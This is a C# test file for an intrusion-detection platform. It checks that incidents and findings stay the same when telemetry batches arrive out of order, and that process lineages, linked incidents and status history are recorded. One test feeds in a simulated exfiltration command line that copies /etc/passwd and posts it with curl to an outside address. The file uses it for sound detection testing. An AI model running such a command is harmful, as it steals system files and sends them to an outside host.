using Microsoft.Extensions.DependencyInjection;
using Platform.Agent.Simulation;
using Platform.Api.Telemetry;
using Platform.Contracts;
using Platform.Tests.Infrastructure;
using static Platform.Tests.Incidents.IncidentScenario;

namespace Platform.Tests.Incidents;

/// <summary>
/// The story detection tells (issue 19, item 9): the same findings whatever order batches arrive in, lineages as
/// trees, incidents by chain of events and linked, and an incident's history of status changes.
/// </summary>
public abstract class DetectionOrderTests(PlatformApi api)
{
    /// <summary>The seed intrusion (agent/Simulation/Scenarios.cs, what <c>simulate struts2</c> replays), in five batches of consecutive events.</summary>
    private static TelemetryEvent[][] SeedChainBatches()
    {
        var events = Scenarios.Build(Scenarios.Struts2, T0.AddMinutes(1), "order").Steps.Select(s => s.Event).ToList();
        var size = (events.Count + 4) / 5;
        return events.Chunk(size).ToArray();
    }

    [SkippableFact]
    public async Task Exfiltration_is_found_when_the_batch_with_the_connection_arrives_before_the_batch_with_the_read()
    {
        var s = await StartAsync(api);
        var steps = s.Struts2Compromise(T0);
        // The agent resends after an outage: sequence 2 (curl and its connection) arrives first, then 1 (sh, cp and the read).
        await s.PushBatchAsync(2, steps[3..]);
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DataExfiltration));
        await s.PushBatchAsync(1, steps[..3]);

        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration));
        var finding = Assert.Single(await s.FindingsAsync(incident));
        Assert.Equal(steps.Select(e => e.Id), finding.Events.Select(e => e.Id));
        Assert.Equal(["java", "sh", "cp", "curl"], finding.Lineage.Select(p => p.Name));

        // Sent again (the same batches): nothing more.
        await s.PushBatchAsync(1, steps[..3]);
        await s.PushBatchAsync(2, steps[3..]);
        var again = Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration));
        Assert.Equal((1, incident.Version), (again.FindingCount, again.Version));

        // Another agent with the same event ids and pids, late too: its own findings, nothing joined to the first agent's.
        var other = await StartAsync(api);
        await other.PushBatchAsync(2, steps[3..]);
        await other.PushBatchAsync(1, steps[..3]);
        var theirs = Assert.Single(await other.IncidentsAsync(IncidentCategory.DataExfiltration));
        Assert.NotEqual(incident.Id, theirs.Id);
        Assert.DoesNotContain(incident.Id, theirs.RelatedIncidents);
        Assert.Equal(again.Version, (await api.Admin().GetIncidentAsync(incident.Id)).Version);
    }

    [SkippableFact]
    public async Task A_parent_start_arriving_late_revises_the_finding_to_the_whole_lineage()
    {
        var s = await StartAsync(api);
        var java = s.Start(T0.AddSeconds(-20), 4101, 1, "java", "tini", ["java", "-jar", "app.jar"], Web, "/usr/bin/java");
        var sh = s.Start(T0, 4230, 4101, "sh", "java", ["sh", "-c", "id"], Web, "/bin/sh");
        await s.PushBatchAsync(2, sh);
        var before = Assert.Single(await s.FindingsAsync(Assert.Single(await s.IncidentsAsync())));
        Assert.Equal(new (int, int?, string?)[] { (4101, null, null), (4230, 4101, "/bin/sh") }, before.Lineage.Select(p => (p.Pid, p.Ppid, p.Executable)));

        await s.PushBatchAsync(1, java);
        var incident = Assert.Single(await s.IncidentsAsync());
        var after = Assert.Single(await s.FindingsAsync(incident));
        Assert.Equal(before.Id, after.Id);
        Assert.Equal(new (int, int?, string?)[] { (1, null, null), (4101, 1, "/usr/bin/java"), (4230, 4101, "/bin/sh") }, after.Lineage.Select(p => (p.Pid, p.Ppid, p.Executable)));
        Assert.Equal([java.Id, sh.Id], after.Events.Select(e => e.Id));
    }

    [SkippableFact]
    public async Task Every_permutation_of_the_seed_chains_batches_gives_the_same_incidents_and_findings()
    {
        var batches = SeedChainBatches();
        Assert.Equal(5, batches.Length);
        string? expected = null;
        var orders = Permutations(Enumerable.Range(0, batches.Length).ToList()).ToList();
        Assert.Equal(120, orders.Count);
        foreach (var order in orders)
        {
            var s = await StartAsync(api);
            foreach (var index in order)
                await s.PushBatchAsync(index + 1, batches[index]);
            var story = await StoryAsync(s);
            expected ??= story;
            Assert.True(expected == story, $"Batches in the order {string.Join(", ", order.Select(i => i + 1))} told another story:\n{story}\nnot:\n{expected}");
        }

        // And the story is the right one: a shell from the server and the exfiltration, linked, with the tree.
        Assert.Contains("ShellFromServer", expected);
        Assert.Contains("related=[DataExfiltration]", expected);
        Assert.Contains("lineage java -> sh -> {cp, curl}", expected);
    }

    /// <summary>
    /// What made the test above fail under load: its flight data is dated at <see cref="IncidentScenario.T0"/>, older than
    /// the retention age on the API's clock (which starts at the machine's time), and a retention pass on the machine's clock
    /// (a minute after the API started) removed the batches pushed so far, so the last one was looked at again without them.
    /// The fixtures run no such pass (tests sweep themselves); with one every second the test above failed at once.
    /// </summary>
    [SkippableFact]
    public void Flight_data_dated_before_the_retention_age_is_not_removed_while_a_test_runs()
    {
        Assert.Equal(TimeSpan.Zero, api.Services.GetRequiredService<TelemetryOptions>().RetentionInterval);
    }

    /// <summary>Incidents and their findings as text, without ids, receive times and versions (what differs between agents and runs).</summary>
    private async Task<string> StoryAsync(IncidentScenario s)
    {
        var incidents = (await s.IncidentsAsync()).OrderBy(i => i.Category).ToList();
        var categories = incidents.ToDictionary(i => i.Id, i => i.Category);
        var lines = new List<string>();
        foreach (var incident in incidents)
        {
            var related = incident.RelatedIncidents.Select(id => categories.TryGetValue(id, out var c) ? c.ToString() : "?").Order();
            lines.Add($"{incident.Category} {incident.Severity} {incident.Status} {incident.Resource.ContainerId} findings={incident.FindingCount} {incident.FirstSeen:O}..{incident.LastSeen:O} "
                + $"[{string.Join(",", incident.Techniques.Order())}] related=[{string.Join(",", related)}] {incident.Summary}");
            foreach (var finding in await s.FindingsAsync(incident))
            {
                lines.Add($"  {finding.Rule} {finding.Time:O} {finding.Summary}");
                lines.Add($"    lineage {string.Join(" ", finding.Lineage.Select(p => $"{p.Pid}/{p.Ppid}/{p.Name}/{p.Executable}"))}");
                lines.Add($"    events {string.Join(" ", finding.Events.Select(e => e.Id))}");
            }
        }

        return string.Join('\n', lines);
    }

    private static IEnumerable<List<int>> Permutations(List<int> items)
    {
        if (items.Count <= 1)
        {
            yield return items;
            yield break;
        }

        foreach (var first in items)
        {
            foreach (var rest in Permutations(items.Where(i => i != first).ToList()))
                yield return [first, .. rest];
        }
    }

    [SkippableFact]
    public async Task A_lineage_carries_parent_ids_and_reads_as_a_tree()
    {
        var s = await StartAsync(api);
        await s.PushAsync([s.Start(T0.AddSeconds(-5), 4101, 1, "java", "tini", ["java"], Web, "/usr/bin/java"), .. s.Struts2Compromise(T0)]);

        var finding = Assert.Single(await s.FindingsAsync(Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration))));
        Assert.Equal(new (int, int?)[] { (1, null), (4101, 1), (4230, 4101), (4231, 4230), (4232, 4230) }, finding.Lineage.Select(p => (p.Pid, p.Ppid)));
        Assert.Equal("tini", finding.Lineage.First().Name);
        Assert.Contains("lineage tini -> java -> sh -> {cp, curl}", finding.Summary);
        Assert.DoesNotContain("cp -> curl", finding.Summary);
    }

    [SkippableFact]
    public async Task Unrelated_activity_on_one_host_makes_separate_incidents_and_one_intrusions_incidents_are_linked()
    {
        var s = await StartAsync(api);
        // On the host itself, within the hour: a python3 app starting bash, and the java intrusion.
        await s.PushAsync(s.Start(T0.AddMinutes(-10), 3000, 1, "python3", "systemd", ["python3", "app.py"]), s.Start(T0.AddMinutes(-10), 3001, 3000, "bash", "python3", ["bash", "-c", "ls"]));
        await s.PushAsync(s.Start(T0.AddSeconds(-5), 4101, 1, "java", "systemd", ["java"]),
            s.Start(T0, 4230, 4101, "sh", "java", ["sh", "-c", "cp /etc/passwd /tmp/p && curl -d @/tmp/p http://203.0.113.9/"], executable: "/bin/sh"),
            s.Start(T0.AddMilliseconds(100), 4231, 4230, "cp", "sh", ["cp", "/etc/passwd", "/tmp/p"]),
            s.File(T0.AddMilliseconds(110), 4231, "cp", "/etc/passwd", FimOperation.Read),
            s.Start(T0.AddMilliseconds(300), 4232, 4230, "curl", "sh", ["curl", "-d", "@/tmp/p", "http://203.0.113.9/"]),
            s.Connect(T0.AddMilliseconds(320), 4232, "curl", "203.0.113.9", 80));

        var shells = await s.IncidentsAsync(IncidentCategory.ShellFromServer);
        Assert.Equal(2, shells.Count);
        var python = Assert.Single(shells, i => i.Summary.StartsWith("python3", StringComparison.Ordinal));
        var java = Assert.Single(shells, i => i.Summary.StartsWith("java", StringComparison.Ordinal));
        Assert.Equal(1, java.FindingCount);
        var exfiltration = Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration));

        Assert.Equal([exfiltration.Id], java.RelatedIncidents);
        Assert.Equal([java.Id], exfiltration.RelatedIncidents);
        Assert.Empty(python.RelatedIncidents);
        Assert.Equal([exfiltration.Id], (await api.Admin().GetIncidentAsync(java.Id)).RelatedIncidents);

        // Another shell of the same java server joins its incident, not python's.
        await s.PushAsync(s.Start(T0.AddMinutes(5), 4240, 4101, "bash", "java", ["bash"]));
        Assert.Equal(2, (await api.Admin().GetIncidentAsync(java.Id)).FindingCount);
        Assert.Equal(1, (await api.Admin().GetIncidentAsync(python.Id)).FindingCount);
    }

    [SkippableFact]
    public async Task A_reopen_keeps_its_reason_and_the_resolution_it_undid_in_the_history()
    {
        var s = await StartAsync(api);
        await s.PushAsync(s.Start(T0, 4230, 4101, "sh", "java", ["sh"], Web, "/bin/sh"));
        var incident = Assert.Single(await s.IncidentsAsync());
        Assert.Empty(incident.History);
        var (responder, _) = await api.ClientWithRole(Role.Operator);

        await responder.ChangeIncidentStatusAsync(new IncidentStatusChange { Status = IncidentStatus.Resolved, Resolution = IncidentResolution.FalsePositive, Reason = "Health check script." }, incident.Id);
        var reopened = await responder.ChangeIncidentStatusAsync(new IncidentStatusChange { Status = IncidentStatus.Open, Reason = "The script does not run sh." }, incident.Id);
        Assert.Equal((IncidentStatus.Open, (IncidentResolution?)null), (reopened.Status, reopened.Resolution));

        var read = await api.Admin().GetIncidentAsync(incident.Id);
        Assert.Equal(2, read.History.Count);
        var (resolved, reopen) = (read.History.First(), read.History.Last());
        Assert.Equal((IncidentStatus.Open, IncidentStatus.Resolved, (IncidentResolution?)IncidentResolution.FalsePositive, "Health check script."), (resolved.From, resolved.To, resolved.Resolution, resolved.Reason));
        Assert.Equal((IncidentStatus.Resolved, IncidentStatus.Open, "The script does not run sh."), (reopen.From, reopen.To, reopen.Reason));
        Assert.Equal(((IncidentResolution?)IncidentResolution.FalsePositive, "Health check script."), (reopen.PreviousResolution, reopen.PreviousResolutionReason));
        Assert.NotNull(reopen.Actor);
        Assert.True(reopen.At >= resolved.At);
        // The list carries it too.
        Assert.Equal(2, Assert.Single(await s.IncidentsAsync()).History.Count);
    }
}

public sealed class DetectionOrderTestsOnSqlite(SqliteApi api) : DetectionOrderTests(api), IClassFixture<SqliteApi>;

public sealed class DetectionOrderTestsOnPostgres(PostgresApi api) : DetectionOrderTests(api), IClassFixture<PostgresApi>;
